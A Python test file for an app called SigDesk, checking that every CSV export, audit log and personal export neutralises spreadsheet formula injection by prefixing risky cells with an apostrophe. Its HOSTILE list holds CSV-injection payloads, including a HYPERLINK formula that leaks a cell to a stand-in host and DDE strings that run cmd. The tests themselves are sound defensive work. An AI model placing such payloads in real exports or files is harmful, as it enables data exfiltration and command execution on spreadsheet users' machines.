"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): a text cell starting with = + - @, a tab
or a carriage return is written with a leading apostrophe, in every CSV SigDesk writes (each kind, the audit log,
the personal export); numeric columns stay numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from sigdesk.exports.personal import export_contact
from sigdesk.conversations.schemas import MessageData
from sigdesk.exports.services import COLUMNS, KINDS, csv_row, export, safe_cell
from sigdesk.models import AuditEvent, Message
from tests import factories

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list of what a spreadsheet may run
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


def text_run_as_formula(row: dict[str, str]) -> list[str]:
    """The columns whose cell a spreadsheet would run; a plain negative number is a numeric column's number
    (text columns holding one are checked in test_numeric_columns_are_decided_by_type...)."""
    return [column for column, cell in row.items() if runs_as_formula(cell) and not re.fullmatch(r"-\d+", cell)]


@given(st.text(max_size=40))
def test_a_text_cell_is_never_a_formula_and_keeps_its_text_after_the_apostrophe(text):
    cell = safe_cell(text)
    assert not runs_as_formula(cell)
    assert cell == text or (runs_as_formula(text) and cell == "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans()))
def test_numbers_stay_numbers_negative_ones_included(number):
    assert safe_cell(number) is number


@pytest.mark.database
@pytest.mark.parametrize("hostile", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_hostile_names_texts_and_template_names_are_neutralised_in_every_kind(app, tmp_path, hostile):
    with app.extensions["sigdesk"].database.session() as session:
        who = factories.contact(session, "447700900123", name=hostile, display_name=hostile)
        talk = factories.conversation(session, who)
        factories.message(session, talk, text=hostile, error_code=-5, error_title=hostile)
        factories.template(session, name=hostile, body=hostile)
        factories.order(session, who, notes=hostile)
    for kind in KINDS:
        out = tmp_path / f"{kind}.csv"
        with app.extensions["sigdesk"].database.session() as session:
            export(session, kind, "csv", out)
        rows = read_csv(out)
        assert rows or kind == "audit", kind
        for row in rows:
            assert not text_run_as_formula(row), kind
    contacts = read_csv(tmp_path / "contacts.csv")
    assert contacts[0]["display_name"] == contacts[0]["profile_name"] == contacts[0]["name"] == "'" + hostile
    conversations = read_csv(tmp_path / "conversations.csv")
    assert conversations[0]["contact.name"] == "'" + hostile
    [message] = read_csv(tmp_path / "messages.csv")
    assert message["text"] == message["error.title"] == "'" + hostile
    assert message["error.code"] == "-5"  # a numeric column: the number, not text
    assert read_csv(tmp_path / "templates.csv")[0]["name"] == "'" + hostile


@pytest.mark.parametrize("hostile", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_the_failed_sign_in_email_in_the_audit_csv_is_neutralised(app, auth, owner, tmp_path, hostile):
    auth.logout()
    auth.post("/login", {"email": hostile, "password": "not the password"})
    with app.extensions["sigdesk"].database.session() as session:
        stored = session.scalars(select(AuditEvent.target).where(AuditEvent.action == "login.failed")).all()
        assert stored and runs_as_formula(stored[-1])
        export(session, "audit", "csv", tmp_path / "audit.csv")
    failed = [row for row in read_csv(tmp_path / "audit.csv") if row["action"] == "login.failed"]
    assert [row["target"] for row in failed] == ["'" + target for target in stored]
    assert int(failed[0]["id"]) > 0


def test_the_personal_export_neutralises_its_csv_files_too(app, tmp_path):
    hostile = "=1+2"
    with app.extensions["sigdesk"].database.session() as session:
        who = factories.contact(session, "447700900124", name=hostile)
        talk = factories.conversation(session, who)
        factories.message(session, talk, text="-2+3", error_code=-5)
        export_contact(session, who.id, tmp_path / "person.zip")
    with zipfile.ZipFile(tmp_path / "person.zip") as archive:
        tables = {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    for name, rows in tables.items():
        for row in rows:
            assert not text_run_as_formula(row), name
    assert tables["contact.csv"][0]["profile_name"] == "'=1+2"
    assert tables["messages.csv"][0]["text"] == "'-2+3"
    assert tables["messages.csv"][0]["error_code"] == "-5"


def test_numeric_columns_are_decided_by_type_so_minus_five_is_a_number_there_and_text_elsewhere(app):
    with app.extensions["sigdesk"].database.session() as session:
        talk = factories.conversation(session)
        found = factories.message(session, talk, text="-5", error_code=-5)
        record = MessageData.of(session.get(Message, found.id), [])
    by_column = dict(zip(COLUMNS["messages"], csv_row("messages", record)))
    assert by_column["error.code"] == -5 and by_column["text"] == "'-5"
